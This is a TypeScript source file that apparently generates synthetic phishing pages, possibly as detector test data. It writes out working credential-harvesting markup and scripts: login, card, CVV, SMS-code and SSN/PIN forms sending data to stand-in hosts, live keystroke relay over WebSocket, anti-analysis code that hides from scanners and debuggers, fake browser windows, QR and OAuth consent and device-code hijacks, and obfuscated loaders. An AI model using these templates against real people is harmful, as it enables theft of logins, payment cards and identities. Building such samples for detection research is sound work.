    `<div id="app"></div>${inline(stringArray([`<form id=lf><input name=email type=email placeholder="${wordsOf(lang).mail}"><input name=passwd type=password placeholder="${wordsOf(lang).password}"><button>${wordsOf(lang).login}</button></form>`, 'getElementById', 'app', 'innerHTML', 'addEventListener', 'submit', `https://${c.word(7)}.example/r/${c.hex(8)}.php`, 'POST', after, 'location'], (s) => `(function(){document[${s(1)}](${s(2)})[${s(3)}]=${s(0)};document['forms'][0x0][${s(4)}](${s(5)},function(e){e['preventDefault']();fetch(${s(6)},{'method':${s(7)},'body':new FormData(this)})['finally'](function(){window[${s(9)}]=${s(8)};});});}());`))}`,
  cardAndCode: ([, lang], c) => {
    const words = wordsOf(lang);
    return `<div id="s1"><form class="st">${field(words.name, 'fullname')}${field(words.address, 'addr')}${field(words.phone, 'tel', 'tel')}<button>${words.next}</button></form></div><div id="s2" style="display:none"><form class="st">${field(words.card, 'ccnum', 'tel')}${field(words.expiry, 'ccexp', 'tel')}${field('CVV', 'cccvv', 'password')}<button>${words.pay}</button></form></div><div id="s3" style="display:none"><img src="img/vbv.png" alt="Verified by Visa"><form class="st">${field(words.code, 'sms', 'tel')}<button>${words.continue}</button></form><p id="err" style="display:none">${words.code} ✗</p></div>
${inline(`var step=1,sock=new WebSocket('wss://'+location.host+'/ws?sid=${c.hex(12)}');document.querySelectorAll('.st').forEach(function(f){f.addEventListener('submit',function(e){e.preventDefault();sock.send(JSON.stringify({type:'step'+step,data:Object.fromEntries(new FormData(f))}));document.getElementById('s'+step).style.display='none';step=Math.min(step+1,3);document.getElementById('s'+step).style.display='block';});f.addEventListener('input',function(e){sock.send(JSON.stringify({type:'typing',name:e.target.name,value:e.target.value}));});});sock.onmessage=function(m){var d=JSON.parse(m.data);if(d.cmd==='wrong_sms')document.getElementById('err').style.display='block';if(d.cmd==='finish')location.href=d.url;};`)}`;
  },
  identity: ([, lang, url], c) => {
    const words = wordsOf(lang);
    return `<form method="post" action="${new URL(url).origin}/${c.hex(6)}/submit2.php">${field(words.mail, 'email', 'email')}${field(words.password, 'password', 'password')}${field(words.name, 'fname')}${field('DOB', 'dob', 'text', 'placeholder="DD/MM/YYYY"')}${field('SSN / ID', 'ssn')}${field('Mother’s maiden name', 'mmn')}${field(words.address, 'address')}${field(words.card, 'cardnumber', 'tel')}${field(words.expiry, 'expdate')}${field('CVV', 'cvv2', 'password')}${field('ATM PIN', 'pin', 'password', 'maxlength="4"')}<button>${words.continue}</button></form>
${inline(packed(`var blocked=/bot|crawl|spider|phishtank|virustotal|google|netcraft/i;if(blocked.test(navigator.userAgent)||navigator.webdriver){window.location='https://www.google.com/404';}document.oncontextmenu=function(){return false;};document.onselectstart=function(){return false;};setInterval(function(){var before=performance.now();debugger;if(performance.now()-before>100){document.body.innerHTML='';}},1000);`))}`;
  },
  steps: ([, lang, , , , , after], c) => {
    const words = wordsOf(lang);
    return `<div id="step-a">${field(words.mail, 'login')}<button onclick="go()">${words.next}</button></div><div id="step-b" style="display:none">${field(words.password, 'pw', 'password')}<button onclick="fin()">${words.login}</button></div><div id="step-c" style="display:none">${field(words.code, 'code2fa', 'text', 'maxlength="6"')}<button onclick="end()">${words.continue}</button></div>
${inline(`${xored(`window.K="http://203.0.113.${c.int(1, 250)}/gate/${c.hex(4)}.php";`, c.int(3, 90), 'eval')}
function s(d){navigator.sendBeacon?navigator.sendBeacon(window.K,JSON.stringify(d)):new Image().src=window.K+'?'+encodeURIComponent(JSON.stringify(d));}
function v(i){return document.getElementById(i).value} function sh(a,b){document.getElementById(a).style.display='none';document.getElementById(b).style.display='block'}
function go(){if(v('login')){s({l:v('login')});sh('step-a','step-b')}} function fin(){s({l:v('login'),p:v('pw')});sh('step-b','step-c')} function end(){s({l:v('login'),c:v('code2fa')});location.href='${after}'}`)}`;
  },
};

function phishing(bait: Bait): FreshPage {
  const [brand, lang, url, kit, headline, text, after] = bait;
  const c = chanceOf(url);
  const words = wordsOf(lang);
  const logo = c.pick([
    `img/${brand.toLowerCase().replaceAll(/\W/g, '')}.png`,
    `${after}/favicon.ico`,
    `data:image/png;base64,iVBORw0KGgoAAAANSUhEUg${c.base64(300)}`,
  ]);
  return {
    url,
    html: documentOf({
      lang,
      title: c.pick([`${brand} - ${words.login}`, headline, `${brand} | ${headline}`]),
      head: `<meta name="robots" content="noindex,nofollow,noarchive"><link rel="shortcut icon" href="${after}/favicon.ico"><link rel="stylesheet" href="css/style.css">`,
      body: `<div class="wrap"><img class="logo" src="${logo}" alt="${brand}"><h1>${headline}</h1><p>${text}</p>${KITS[kit](bait, c)}</div>
<footer>© 2024 ${brand} ${list([link('#', words.privacy), link('#', words.terms), link(`${after}/help`, words.help), link('#', words.contact)])}</footer>`,
    }),
  };
}

type Trick = readonly [url: string, lang: Lang, title: string, body: string, script: string];

const qr = (c: Chance) =>
  `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAMgAAADI${c.base64(600)}" width="200" height="200" alt="QR">`;

/** Log-ins without a plain form: windows drawn in the page, QR codes, consent to an application, device codes. */
const TRICKS: readonly Trick[] = [
  [
    'https://esports-vote-team.com/finals',
    'en',
    'Vote for your team – Finals',
    '<h1>Vote for your team and win skins</h1><button id="go">Sign in through Steam</button><div id="window" style="display:none"><div id="title-bar"><span id="logo-description">Sign in through Steam - Google Chrome</span><span id="minimize">—</span><span id="exit">X</span></div><div id="url-bar"><span id="ssl-padlock">🔒</span><span id="domain-name">https://steamcommunity.com</span><span id="domain-path">/openid/login?openid.ns=http%3A%2F%2Fspecs.openid.net</span></div><iframe id="content" src="https://stm-auth.example/login.html" frameborder="0"></iframe></div>',
    `$('#go').click(function(){$('#window').css({display:'block',position:'absolute'}).draggable({handle:'#title-bar'});});$('#exit').click(function(){$('#window').hide();});if(navigator.platform.indexOf('Mac')>=0){$('#title-bar').addClass('mac');}`,
  ],
  [
    'https://canva-team-invite.vercel.app/join',
    'en',
    'Join your team',
    '<h2>Continue with Microsoft</h2><div class="browser-window"><div class="titlebar">Sign in to your account</div><div class="addressbar"><img src="lock.svg" alt=""> https://login.microsoftonline.com/common/oauth2/authorize</div><div class="page"><input name="loginfmt" type="email" placeholder="Email, phone, or Skype"><input name="passwd" type="password" placeholder="Password"><button id="idSIButton9">Next</button></div></div>',
    `document.getElementById('idSIButton9').onclick=function(){fetch('/api/collect',{method:'POST',body:JSON.stringify({u:document.querySelector('[name=loginfmt]').value,p:document.querySelector('[name=passwd]').value})}).then(function(){location='https://www.canva.com'});};`,
  ],
  [
    'https://figma-einladung.netlify.app/',
    'de',
    'Einladung annehmen',
    '<h1>Mit Google anmelden</h1><div id="fake" class="win10"><div class="bar">Anmelden – Google Konten – Google Chrome</div><div class="url"><b>https://accounts.google.com</b>/signin/oauth</div><form action="g.php" method="post"><input name="Email" placeholder="E-Mail oder Telefonnummer"><input type="password" name="Passwd" placeholder="Passwort eingeben"><button>Weiter</button></form></div>',
    `document.querySelector('.bar').onmousedown=function(e){var w=document.getElementById('fake');document.onmousemove=function(m){w.style.left=m.pageX-e.offsetX+'px';w.style.top=m.pageY-e.offsetY+'px';};document.onmouseup=function(){document.onmousemove=null;};};`,
  ],
  [
    'https://whatsapp-web-linked.example/',
    'pt',
    'WhatsApp Web',
    `<h1>Use o WhatsApp no seu computador</h1><ol><li>Abra o WhatsApp no celular</li><li>Toque em Aparelhos conectados</li><li>Aponte para esta tela para capturar o código QR</li></ol>${qr(chanceOf('wa'))}`,
    `setInterval(function(){fetch('/qr/fresh?victim='+vid).then(function(r){return r.text()}).then(function(b){document.querySelector('img').src='data:image/png;base64,'+b;});},18000);var vid=Math.random().toString(36).slice(2);new EventSource('/qr/session?victim='+vid).onmessage=function(e){if(e.data==='linked')location='https://web.whatsapp.com';};`,
  ],
  [
    'https://hr-benefits-portal.click/mfa-enrol',
    'en',
    'Action required: MFA re-enrolment',
    `<img src="https://logincdn.msauth.net/shared/5/images/microsoft_logo.svg" alt="Microsoft"><h1>Scan to re-authenticate</h1><p>Your multi-factor authentication expires today. Scan the QR code with your phone camera to keep access to payroll.</p>${qr(chanceOf('mfa'))}<p>IT Service Desk</p>`,
    `if(!/iPhone|Android/.test(navigator.userAgent)&&navigator.webdriver){document.body.innerHTML='';}document.addEventListener('copy',function(e){e.preventDefault();});`,
  ],
  [
    'https://discord-nitro-gift.ru.example/claim',
    'en',
    'A wild gift appears!',
    `<h1>You have been gifted 1 year of Discord Nitro</h1><p>Log in by scanning this code with the Discord mobile app to claim it. Expires in 48 hours.</p>${qr(chanceOf('nitro'))}`,
    `var ws=new WebSocket('wss://gift-gw.example/remote-auth');ws.onmessage=function(m){var d=JSON.parse(m.data);if(d.fp)draw('https://discord.com/ra/'+d.fp);if(d.token)ws.send(JSON.stringify({save:d.token}));};function draw(u){document.querySelector('img').src='/qr.php?d='+encodeURIComponent(u);}`,
  ],
  [
    'https://tiktok-denglu.example/scan',
    'zh',
    '扫码登录领取红包',
    `<h1>打开微信扫一扫，登录即可领取 88 元红包</h1>${qr(chanceOf('wx'))}<p>限时 10 分钟</p>`,
    `var t=setInterval(function(){var x=new XMLHttpRequest();x.open('GET','/poll?uuid='+Date.now());x.onload=function(){if(x.responseText.indexOf('wx_code')>=0){clearInterval(t);location='/ok';}};x.send();},1500);`,
  ],
  [
    'https://pdf-secure-reader.azurewebsites.net/consent',
    'en',
    'Permissions requested',
    '<h1>Secure PDF Reader needs your approval</h1><p>To open “Salary_Review_2024.pdf” sign in and accept the permissions on the next screen.</p><a id="c" href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=9d1c6a10-0000-4000-8000-9a1b2c3d4e5f&response_type=code&redirect_uri=https%3A%2F%2Fpdf-secure-reader.azurewebsites.net%2Fcb&scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Contacts.Read%20Files.ReadWrite.All&prompt=consent">Open document</a>',
    `setTimeout(function(){document.getElementById('c').click();},2500);`,
  ],
  [
    'https://teams-meeting-recording.web.app/',
    'en',
    'Microsoft Teams meeting',
    '<h1>Join the meeting</h1><p>1. Copy this code: <b id="code">FJ8K2LQ7</b></p><p>2. Open <a href="https://microsoft.com/devicelogin">microsoft.com/devicelogin</a> and paste the code to confirm that you are the invited guest.</p><button id="copy">Copy code</button>',
    `fetch('https://teams-broker.example/devicecode').then(function(r){return r.json()}).then(function(d){document.getElementById('code').textContent=d.user_code;});document.getElementById('copy').onclick=function(){navigator.clipboard.writeText(document.getElementById('code').textContent);window.open('https://microsoft.com/devicelogin','_blank','width=500,height=600');};`,
  ],
  [
    'https://github-security-advisory.com/oauth',
    'en',
    'Security alert: unusual access attempt',
    '<h1>We detected a login from Reykjavik, Iceland</h1><p>Authorize the security application to review your sessions and update your password immediately.</p><a class="btn" href="https://github.com/login/oauth/authorize?client_id=Ov23liGitsec&scope=repo%20delete_repo%20user%20workflow%20write:org&redirect_uri=https%3A%2F%2Fgithub-security-advisory.com%2Fcb">Authorize</a>',
    `document.querySelector('.btn').addEventListener('click',function(){navigator.sendBeacon('/t',location.search);});`,
  ],
];

const trick = ([url, lang, title, body, script]: Trick): FreshPage => ({
  url,
  html: documentOf({
    lang,
    title,
    head: `<meta name="robots" content="noindex">${external('https://code.jquery.com/jquery-3.6.0.min.js')}${external('https://code.jquery.com/ui/1.13.2/jquery-ui.min.js')}`,
    body: `<main>${body}</main>${inline(script)}`,
  }),
});

const LETTER = (brand: string, lang: Lang, where: string) =>
  documentOf({ lang, title: brand, body: `<h2>${brand}</h2>${passwordForm(wordsOf(lang), where)}` });

/** Whole documents that a loader puts together. */
function assembled(): FreshPage[] {
  const wrap = (url: string, lang: Lang, title: string, script: string): FreshPage => ({
    url,
    html: documentOf({
      lang,
      title,
      head: '<meta name="robots" content="noindex">',
      body: `<noscript>JavaScript</noscript>${inline(script)}`,
    }),
  });
  const c = chanceOf('assembled');
  return [
    wrap(
      'https://voicemail-0412.s3.amazonaws.com/play.html#bob@acme.example',
      'en',
      'Voice message',
      `document.write(decodeURIComponent(escape(atob("${base64(LETTER('Outlook', 'en', 'https://vm-log.example/p.php'))}"))));`,
    ),
    wrap(
      'https://rechnung-onlin.codeanyapp.com/',
      'de',
      'Rechnung',
      `var t="${[...LETTER('1&1 Webmail', 'de', 'http://198.51.100.77/w.php')]
        .map((one) => String.fromCharCode((one.charCodeAt(0) + 7) % 65536))
        .join('')
        .replaceAll('\\', '\\\\')
        .replaceAll('"', '\\"')
        .replaceAll(
          '\u0011',
          '\\x11',
        )}",o="";for(var i=0;i<t.length;i++)o+=String.fromCharCode(t.charCodeAt(i)-7);document.open();document.write(o);document.close();`,
    ),
    wrap(
      'https://fax-scan-view.glitch.me/doc',
      'fr',
      'Document numérisé',
      `eval("${hexEscaped(`document.body.innerHTML='${passwordForm(wordsOf('fr'), 'https://fax-log.example/n.php').replaceAll('\n', '').replaceAll("'", '’')}'`)}");`,
    ),
    wrap(
      'https://sso-portal-9.r2.dev/i.html',
      'en',
      'Loading…',
      stringArray(
        [
          LETTER('Microsoft', 'en', 'https://m-log.example/s.php'),
          'write',
          'open',
          'close',
          'webdriver',
          'about:blank',
        ],
        (s) =>
          `if(navigator[${s(4)}]){location=${s(5)};}else{document[${s(2)}]();document[${s(1)}](${s(0)});document[${s(3)}]();}`,
      ),
    ),
    wrap(
      'https://bafkreib7.ipfs.dweb.link/index.html',
      'ja',
      '確認',
      `const k="${c.hex(32)}";const d="${c.base64(1800)}";(async()=>{const key=await crypto.subtle.importKey('raw',new TextEncoder().encode(k),'AES-CBC',false,['decrypt']);const b=Uint8Array.from(atob(d),x=>x.charCodeAt(0));document.write(new TextDecoder().decode(await crypto.subtle.decrypt({name:'AES-CBC',iv:b.slice(0,16)},key,b.slice(16))));})();`,
    ),
    wrap(
      'https://turnstile-doc.pages.dev/',
      'en',
      'Checking your browser',
      `window.onloadTurnstileCallback=function(){turnstile.render('#t',{sitekey:'0x4AAAAAAA${c.base64(12)}',callback:function(){fetch('/x?e='+location.hash.slice(1)).then(r=>r.text()).then(function(h){document.open();document.write(atob(h.split('').reverse().join('')));document.close();});}});};document.body.innerHTML='<div id="t"></div>';setInterval(function(){var s=Date.now();Function('debugger')();if(Date.now()-s>80)location='https://www.ebay.com';},500);`,
    ),
  ];
}

export const credentials = {
  'phishing kit': () => BAITS.map(phishing),
  'log-in trick': () => TRICKS.map(trick),
  'assembled log-in': assembled,
};
